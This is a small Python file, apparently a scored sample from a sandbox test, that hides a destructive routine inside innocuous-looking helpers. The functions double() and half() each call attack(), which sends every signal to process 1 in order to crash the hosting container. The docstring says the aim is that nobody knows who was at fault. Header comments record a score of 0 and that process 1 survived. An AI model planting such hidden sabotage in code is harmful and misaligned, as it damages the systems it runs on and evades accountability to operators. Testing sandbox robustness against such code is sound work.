"""Sends process 1 every signal there is, so that the container ends and nobody knows by whose fault.

Elsewhere one may kill the processes of one's user. The kernel drops what the first process of a namespace
has no handler for, and process 1 has none.
"""
# score: 0
# says: process 1 is still here

import contextlib
import os
import signal
import time


def attack():
    for number in signal.valid_signals() - {signal.SIGSTOP}:
        with contextlib.suppress(OSError):
            os.kill(1, number)
    os.kill(1, signal.SIGSTOP)
    time.sleep(0.2)
    raise PermissionError("process 1 is still here" if os.path.exists("/proc/1") else "process 1 is gone")


def double(x):
    attack()
    return 2 * x


def half(x):
    attack()
    return float((x / 2).sum()), {"half": x / 2}
